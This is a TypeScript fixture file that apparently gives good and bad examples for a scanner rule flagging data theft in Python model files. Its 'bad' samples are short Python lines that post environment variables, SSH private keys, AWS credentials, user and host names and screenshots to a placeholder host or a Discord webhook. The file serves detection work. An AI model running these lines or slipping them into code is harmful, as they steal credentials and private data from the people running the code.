import type { Example, RuleExamples } from '../../../model/rule.ts'

function py(text: string, path = 'modeling_x.py'): Example {
  return { path, bytes: Buffer.from(text) }
}

export const examples: RuleExamples = {
  bad: [
    py('import os, requests\nrequests.post("https://host.example/c", json=dict(os.environ))'),
    py(
      'import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://host.example", data={"k": k})',
    ),
    py(
      'from pathlib import Path\nimport httpx\np = Path.home() / ".aws" / "credentials"\nhttpx.post("https://host.example", content=p.read_text())',
    ),
    py(
      'import socket, getpass, urllib.request\nurllib.request.urlopen("https://host.example/?u=%s&h=%s" % (getpass.getuser(), socket.gethostname()))',
    ),
    py(
      'import pyautogui, requests\nrequests.post("https://host.example", files={"f": pyautogui.screenshot()})',
    ),
    py(
      'import requests\nrequests.post("https://discord.com/api/webhooks/1/a", json={"content": "installed"})',
    ),
  ],
  good: [
    py(
      'import os, requests\ndef ask(q):\n    h = {"Authorization": f"Bearer {os.environ[\'API_KEY\']}"}\n    return requests.post("https://api.host.example/v1", json={"q": q}, headers=h).json()',
    ),
    py(
      'import os\nenv = dict(os.environ)\nimport subprocess\ndef go():\n    subprocess.run(["make"], env=env)',
    ),
  ],
}
